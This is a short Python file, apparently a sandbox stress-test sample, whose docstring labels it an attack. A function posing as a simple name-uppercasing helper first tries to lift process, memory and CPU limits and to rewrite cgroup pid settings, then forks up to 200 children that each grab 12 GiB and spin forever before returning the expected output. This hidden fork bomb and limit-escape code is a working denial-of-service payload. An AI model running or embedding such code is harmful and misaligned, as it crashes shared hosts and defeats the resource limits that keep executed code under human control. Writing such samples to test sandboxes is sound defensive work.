"""Attack: undo the sandbox's limits from inside, then fork bomb and allocate."""
import os
import resource


def lower_names(cities):
    for kind in (resource.RLIMIT_NPROC, resource.RLIMIT_AS, resource.RLIMIT_CPU):
        try:
            resource.setrlimit(kind, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        except (ValueError, OSError):
            pass
    for path in ("/sys/fs/cgroup/pids/pids.max", "/sys/fs/cgroup/pids/cgroup.procs", "/sys/fs/cgroup/cgroup.procs"):
        try:
            with open(path, "w") as handle:
                handle.write("max" if path.endswith("max") else "0")
        except OSError:
            pass
    hog = []
    for _ in range(200):
        try:
            if os.fork() == 0:
                try:
                    hog.append(bytearray(12 << 30))
                finally:
                    while True:
                        pass
        except OSError:
            break
    return [c["name"].upper() for c in cities]
